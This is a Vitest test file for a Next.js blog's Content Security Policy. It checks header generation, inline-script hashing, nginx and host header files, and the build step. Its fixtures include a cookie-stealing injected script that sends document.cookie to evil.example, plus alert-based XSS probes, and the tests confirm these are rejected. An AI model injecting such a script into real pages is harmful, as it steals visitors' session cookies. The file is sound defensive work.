import { readFileSync } from 'node:fs'
import { afterEach, describe, expect, test, vi } from 'vitest'
import { siteConfig, type Integrations } from '@/data/site-config'
import {
  contentSecurityPolicy,
  hostHtmlPolicy,
  inlineScripts,
  isExecutable,
  isFrameworkData,
  layoutScripts,
  pageScriptHashes,
  scriptHash,
  withMetaPolicy,
} from '@/lib/site/csp'
import { routeOfHtmlFile } from '@/lib/site/csp-build'
import { HSTS, hostHeadersFile, nginxCspMap, nginxHeaderSnippet, securityHeaders } from '@/lib/site/security-headers'

const off: Integrations = {
  giscus: { enabled: false, repo: 'me/blog', repoId: 'R', category: 'Comments', categoryId: 'C', mapping: 'pathname', reactionsEnabled: true },
  umami: { enabled: false, websiteId: 'w', scriptUrl: 'https://umami.example.org/script.js' },
  plausible: { enabled: false, domain: 'blog.example.com', scriptUrl: 'https://plausible.io/js/script.js' },
  buttondown: { enabled: false },
}

function directives(csp: string) {
  return new Map(csp.split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1)]))
}

describe('security headers', () => {
  test('with every integration off, only our own origin may load anything, and no inline script runs', () => {
    const csp = directives(contentSecurityPolicy(off))
    expect(csp.get('default-src')).toEqual(["'self'"])
    expect(csp.get('script-src')).toEqual(["'self'"])
    expect(csp.get('connect-src')).toEqual(["'self'"])
    expect(csp.get('frame-src')).toEqual(["'none'"])
    expect(csp.get('frame-ancestors')).toEqual(["'none'"])
    expect(contentSecurityPolicy(off)).not.toMatch(/https:/)
  })

  test("a page's policy lists its script hashes and never 'unsafe-inline' or 'unsafe-eval' for scripts", () => {
    const hashes = [scriptHash('a()'), scriptHash('b()'), scriptHash('a()')]
    const csp = directives(contentSecurityPolicy(off, { scriptHashes: hashes }))
    expect(csp.get('script-src')).toEqual(["'self'", scriptHash('a()'), scriptHash('b()')])
    // Styles keep 'unsafe-inline' (KaTeX and Shiki style attributes), so they take no hashes: a hash would switch it off.
    expect(csp.get('style-src')).toEqual(["'self'", "'unsafe-inline'"])
  })

  test('each integration adds exactly its own hosts', () => {
    const giscus = directives(contentSecurityPolicy({ ...off, giscus: { ...off.giscus, enabled: true } }))
    expect(giscus.get('script-src')).toEqual(["'self'", 'https://giscus.app'])
    expect(giscus.get('frame-src')).toEqual(['https://giscus.app'])
    expect(giscus.get('connect-src')).toEqual(["'self'"])

    const umami = directives(contentSecurityPolicy({ ...off, umami: { ...off.umami, enabled: true } }))
    expect(umami.get('script-src')).toEqual(["'self'", 'https://umami.example.org'])
    expect(umami.get('connect-src')).toEqual(["'self'", 'https://umami.example.org'])
    expect(umami.get('frame-src')).toEqual(["'none'"])

    const plausible = directives(contentSecurityPolicy({ ...off, plausible: { ...off.plausible, enabled: true } }))
    expect(plausible.get('script-src')).toEqual(["'self'", 'https://plausible.io'])
  })

  test('only next dev may eval or run inline scripts unhashed', () => {
    expect(contentSecurityPolicy(off)).not.toContain('unsafe-eval')
    expect(directives(contentSecurityPolicy(off, { dev: true })).get('script-src')).toEqual([
      "'self'",
      "'unsafe-inline'",
      "'unsafe-eval'",
    ])
  })

  test('in a <meta>, the policy leaves out what only a header can carry', () => {
    const meta = directives(contentSecurityPolicy(off, { delivery: 'meta' }))
    expect(meta.has('frame-ancestors')).toBe(false)
    expect(meta.get('script-src')).toEqual(["'self'"])
  })

  test('the full set: CSP, COOP, HSTS for an https site, nosniff, DENY framing, referrer and permissions policies', () => {
    const https = securityHeaders(off, { siteUrl: 'https://blog.example.com' })
    expect(https.map((header) => header.key)).toEqual([
      'Content-Security-Policy',
      'Cross-Origin-Opener-Policy',
      'Strict-Transport-Security',
      'X-Content-Type-Options',
      'X-Frame-Options',
      'Referrer-Policy',
      'Permissions-Policy',
    ])
    expect(https.find((header) => header.key === 'Cross-Origin-Opener-Policy')?.value).toBe('same-origin')
    expect(https.find((header) => header.key === 'Strict-Transport-Security')?.value).toBe(HSTS)
    // Over plain http, or in dev, HSTS would pin a host that cannot answer https.
    const keys = (options: Parameters<typeof securityHeaders>[1]) => securityHeaders(off, options).map((header) => header.key)
    expect(keys({ siteUrl: 'http://localhost:3000' })).not.toContain('Strict-Transport-Security')
    expect(keys({ siteUrl: 'https://blog.example.com', dev: true })).not.toContain('Strict-Transport-Security')
  })

  // The nginx example must send what `next start` sends. After changing an
  // integration or siteUrl, `npm run nginx:headers` rewrites the files.
  test('deploy/nginx/security-headers.conf and its CSP map carry exactly the headers of the site config', async () => {
    const headers = securityHeaders(siteConfig.integrations, { siteUrl: siteConfig.siteUrl })
    const conf = nginxHeaderSnippet(headers)
    const map = nginxCspMap(headers)
    await expect(conf).toMatchFileSnapshot('../../deploy/nginx/security-headers.conf')
    await expect(map).toMatchFileSnapshot('../../deploy/nginx/security-headers-map.conf')
    for (const { key, value } of headers) {
      if (key === 'Content-Security-Policy') {
        expect(conf).toContain('add_header Content-Security-Policy $hangul_blog_csp always;')
        expect(map).toContain(`default "${value}";`)
      } else {
        expect(conf).toContain(`add_header ${key} "${value}" always;`)
      }
    }
    // HTML pages carry their policy in a <meta>; the header adds what a <meta> cannot, and no script-src.
    expect(map).toMatch(/~\^text\/html "frame-ancestors 'none'; [^"]*";/)
    expect(map.split('\n').find((line) => line.includes('text/html'))).not.toMatch(/script-src|default-src/)
    // nginx names no version (the Server header and its own error pages).
    expect(readFileSync('deploy/nginx/blog.conf', 'utf8')).toMatch(/^\s*server_tokens off;$/m)
  })
})

// out/_headers as Netlify and Cloudflare Pages read it: every rule whose path
// matches applies (`*` matches anything, slashes too), a repeated header is
// joined with a comma.
function headersFor(file: string, path: string): Map<string, string[]> {
  const found = new Map<string, string[]>()
  let applies = false
  for (const line of file.split('\n')) {
    if (line.startsWith('#') || line.trim() === '') continue
    if (!line.startsWith(' ')) {
      const pattern = new RegExp(`^${line.trim().replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*')}$`)
      applies = pattern.test(path)
    } else if (applies) {
      const [key, ...value] = line.trim().split(': ')
      found.set(key, [...(found.get(key) ?? []), value.join(': ')])
    }
  }
  return found
}

describe('out/_headers for Netlify and Cloudflare Pages', () => {
  const headers = securityHeaders(siteConfig.integrations, { siteUrl: siteConfig.siteUrl })
  const file = hostHeadersFile(headers)
  const full = headers.find((header) => header.key === 'Content-Security-Policy')?.value

  test('a page gets every header next start sends, with the CSP a <meta> cannot carry and no script rule', () => {
    for (const path of ['/', '/blog/hardest-problem-i-solved', '/tags/회고', '/_next/static/chunks/a.js']) {
      const got = headersFor(file, path)
      for (const { key, value } of headers) {
        if (key === 'Content-Security-Policy') expect(got.get(key), path).toEqual([hostHtmlPolicy()])
        else expect(got.get(key), `${path} ${key}`).toEqual([value])
      }
      expect([...got.keys()].sort(), path).toEqual(headers.map((header) => header.key).sort())
    }
    expect(hostHtmlPolicy()).not.toMatch(/script-src|default-src/)
  })

  test('an SVG, a feed or a JSON file also gets the whole policy, so no script in it runs', () => {
    for (const path of ['/static/images/avatar.svg', '/content-assets/blog/x/diagram.svg', '/feed.xml', '/search-index.json', '/icon.svg']) {
      // (An SVG under /static/ matches two such rules: the same policy twice changes nothing.)
      expect([...new Set(headersFor(file, path).get('Content-Security-Policy'))], path).toEqual([hostHtmlPolicy(), full])
    }
    expect(full).toMatch(/script-src 'self'/)
  })
})

// The hash step (lib/site/csp-build.ts) on pages shaped like Next 16's output.
const THEME = '((a,b)=>{document.documentElement.classList.add(b)})("class","dark")'
const page = (body: string) =>
  `<!DOCTYPE html><html><head><meta charSet="utf-8"/><script src="/_next/static/chunks/a.js" async=""></script></head>` +
  `<body><script>${THEME}</script><main>${body}</main>` +
  `<script id="_R_">(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});</script>` +
  `<script>(self.__next_f=self.__next_f||[]).push([0])</script>` +
  `<script>self.__next_f.push([1,"0:{\\"c\\":[\\"\\u003cscript\\u003e\\"]}\\n"])</script></body></html>`

describe('inline script hashes', () => {
  const layout = layoutScripts(page('<h1>404</h1>'))

  test("the layout's own scripts come from the 404 page; Next's and Turbopack's data wrappers are recognised by parsing", () => {
    expect([...layout]).toEqual([THEME])
    expect(isFrameworkData('(self.__next_f=self.__next_f||[]).push([0])')).toBe(true)
    expect(isFrameworkData('self.__next_f.push([1,"a\\"b"])')).toBe(true)
    expect(isFrameworkData('self.__next_f.push([2,null])')).toBe(true)
    // The wrapper with code inside is not data.
    expect(isFrameworkData('self.__next_f.push([1,"a"]);alert(1)//)')).toBe(false)
    expect(isFrameworkData('self.__next_f.push([1,alert(1)])')).toBe(false)
    expect(isFrameworkData('(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1));')).toBe(false)
  })

  test('every executable inline script of a page is hashed, exactly as the browser hashes it', () => {
    const html = page('<p>글</p><script type="application/ld+json">{"@type":"BlogPosting"}</script>')
    const { hashes, rejected } = pageScriptHashes(html, { file: 'blog/x.html', layout })
    expect(rejected).toEqual([])
    expect(hashes).toHaveLength(4)
    expect(hashes[0]).toBe(scriptHash(THEME))
    // echo -n 'alert(1)' | openssl sha256 -binary | base64
    expect(scriptHash('alert(1)')).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='")
    expect(scriptHash('a\r\nb')).toBe(scriptHash('a\nb'))
    // JSON-LD is data: no hash, the browser never runs it.
    expect(isExecutable({ attributes: ' type="application/ld+json"' })).toBe(false)
    expect(isExecutable({ attributes: ' type="module"' })).toBe(true)
  })

  test('a <script> from anywhere else is not hashed, and is reported with the file, line and script', () => {
    const evil = 'fetch("https://evil.example/?c="+document.cookie)'
    const html = page(`<p>글</p>\n<script>${evil}</script>`)
    const { hashes, rejected } = pageScriptHashes(html, { file: 'out/blog/x.html', layout })
    expect(hashes).not.toContain(scriptHash(evil))
    expect(hashes).toHaveLength(4)
    expect(rejected).toEqual([`out/blog/x.html:2: <script>${evil}</script>`])
    // The theme script's shape with other code is not the theme script.
    const lookalike = page(`<script>${THEME.replace('add', 'remove')}</script>`)
    expect(pageScriptHashes(lookalike, { file: 'x.html', layout }).rejected).toHaveLength(1)
  })

  test('a <script> inside a comment or <style> is not a script', () => {
    const html = '<head><style>a::after{content:"<script>x()</script>"}</style></head><!-- <script>y()</script> --><script>z()</script>'
    expect(inlineScripts(html).map((script) => script.text)).toEqual(['z()'])
  })

  test("the export's <meta> comes first in <head>, before every script, and is replaced on a second run", () => {
    const html = withMetaPolicy(page(''), "script-src 'self'")
    expect(html).toMatch(/^<!DOCTYPE html><html><head><meta charSet="utf-8"\/><meta http-equiv="Content-Security-Policy" content="script-src 'self'"\/><script/)
    const twice = withMetaPolicy(html, "script-src 'none'")
    expect(twice.match(/http-equiv/g)).toHaveLength(1)
    expect(twice).toContain(`content="script-src 'none'"`)
  })

  test('built file names are the routes the proxy looks up', () => {
    expect(routeOfHtmlFile('index.html')).toBe('/')
    expect(routeOfHtmlFile('blog/devops/jenkins-heap-dump.html')).toBe('/blog/devops/jenkins-heap-dump')
    expect(routeOfHtmlFile('tags/회고/page/1.html')).toBe('/tags/회고/page/1')
    expect(routeOfHtmlFile('_not-found.html')).toBe('/_not-found')
  })
})

describe('the proxy side: a policy per page from the manifest', () => {
  async function withManifest(manifest: object | null) {
    const { mkdtempSync, writeFileSync } = await import('node:fs')
    const { tmpdir } = await import('node:os')
    const { join } = await import('node:path')
    const dir = mkdtempSync(join(tmpdir(), 'csp-manifest-'))
    if (manifest) writeFileSync(join(dir, 'csp-manifest.json'), JSON.stringify(manifest))
    vi.stubEnv('NEXT_DIST_DIR', dir)
    vi.stubEnv('NODE_ENV', 'production')
    vi.resetModules()
    const { documentResponse } = await import('@/lib/site/csp-manifest')
    const { NextRequest } = await import('next/server')
    return (path: string) => {
      const request = new NextRequest(`http://localhost:3000${encodeURI(path)}`)
      return documentResponse(request, path)
    }
  }
  afterEach(() => vi.unstubAllEnvs())

  const manifest = {
    pages: { '/tags/회고': "script-src 'self' 'sha256-tag'", '/_not-found': "script-src 'self' 'sha256-404'" },
    files: ['/feed.xml'],
  }

  test("a page gets its own policy; an unknown URL the prerendered 404 page and that page's policy", async () => {
    const respond = await withManifest(manifest)
    const page = respond('/tags/회고')
    expect(page.headers.get('content-security-policy')).toBe("script-src 'self' 'sha256-tag'")
    expect(page.headers.get('x-middleware-next')).toBe('1')
    const unknown = respond('/blog/없는-글')
    expect(new URL(unknown.headers.get('x-middleware-rewrite') ?? '').pathname).toBe('/_not-found')
    expect(unknown.headers.get('content-security-policy')).toBe("script-src 'self' 'sha256-404'")
  })

  test('files, assets and the API pass through with the hash-less policy of next.config.ts', async () => {
    const respond = await withManifest(manifest)
    for (const path of ['/feed.xml', '/content-assets/blog/글/그림.png', '/katex/fonts/a b.woff2', '/api/newsletter', '/_next/static/x.js']) {
      const response = respond(path)
      expect(response.headers.get('x-middleware-next'), path).toBe('1')
      expect(response.headers.get('content-security-policy'), path).toBeNull()
    }
  })

  test('without a manifest (plain `next build`) nothing is rewritten, and the server says why once', async () => {
    const error = vi.spyOn(console, 'error').mockImplementation(() => {})
    const respond = await withManifest(null)
    expect(respond('/blog/x').headers.get('x-middleware-rewrite')).toBeNull()
    expect(respond('/blog/y').headers.get('content-security-policy')).toBeNull()
    expect(error).toHaveBeenCalledOnce()
    expect(String(error.mock.calls[0][0])).toContain('npm run build')
    error.mockRestore()
  })
})

describe('the CSP build step', () => {
  async function scratch(files: Record<string, string>) {
    const { mkdirSync, mkdtempSync, writeFileSync } = await import('node:fs')
    const { tmpdir } = await import('node:os')
    const { dirname, join } = await import('node:path')
    const dir = mkdtempSync(join(tmpdir(), 'csp-build-'))
    for (const [file, text] of Object.entries(files)) {
      mkdirSync(dirname(join(dir, file)), { recursive: true })
      writeFileSync(join(dir, file), text)
    }
    return dir
  }
  const EVIL = 'alert(document.domain)'

  test('next start: a manifest of every page; a stray script is reported and left blocked, the rest still written', async () => {
    const { readFileSync } = await import('node:fs')
    const dist = await scratch({
      'server/app/_not-found.html': page('<h1>404</h1>'),
      'server/app/index.html': page('<p>home</p>'),
      'server/app/blog/글.html': page(`<p>post</p>\n\n<script>${EVIL}</script>`),
      'prerender-manifest.json': JSON.stringify({
        routes: { '/': {}, '/_not-found': {}, '/feed.xml': {} },
        dynamicRoutes: { '/blog/[...slug]': {} },
      }),
      'app-path-routes-manifest.json': JSON.stringify({
        '/page': '/',
        '/_not-found/page': '/_not-found',
        '/blog/[...slug]/page': '/blog/[...slug]',
        '/feed.xml/route': '/feed.xml',
        '/account/page': '/account',
      }),
    })
    const { buildManifest } = await import('@/lib/site/csp-build')
    const { problems } = buildManifest(dist)
    const manifest = JSON.parse(readFileSync(`${dist}/csp-manifest.json`, 'utf8'))
    expect(Object.keys(manifest.pages).sort()).toEqual(['/', '/_not-found', '/blog/글'])
    expect(manifest.files).toContain('/feed.xml')
    expect(manifest.pages['/blog/글']).toContain(scriptHash(THEME))
    expect(manifest.pages['/blog/글']).not.toContain(scriptHash(EVIL))
    expect(problems).toEqual([
      expect.stringMatching(/^app\/account\/page\.tsx renders on each request/),
      `${dist}/server/app/blog/글.html:3: <script>${EVIL}</script>`,
    ])
  })

  test('export: each page gets its <meta> with its own hashes', async () => {
    const { readFileSync } = await import('node:fs')
    const out = await scratch({ '404.html': page('<h1>404</h1>'), 'index.html': page('<p>home</p>'), 'blog/x.html': page('<p>x</p>') })
    const { addMetaPolicies } = await import('@/lib/site/csp-build')
    expect(addMetaPolicies(out).problems).toEqual([])
    for (const file of ['404.html', 'index.html', 'blog/x.html']) {
      const html = readFileSync(`${out}/${file}`, 'utf8')
      const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html)?.[1] ?? ''
      expect(meta, file).toContain(scriptHash(THEME))
      expect(meta, file).not.toContain('frame-ancestors')
      expect(html.indexOf('http-equiv'), file).toBeLessThan(html.indexOf('<script'))
    }
  })
})
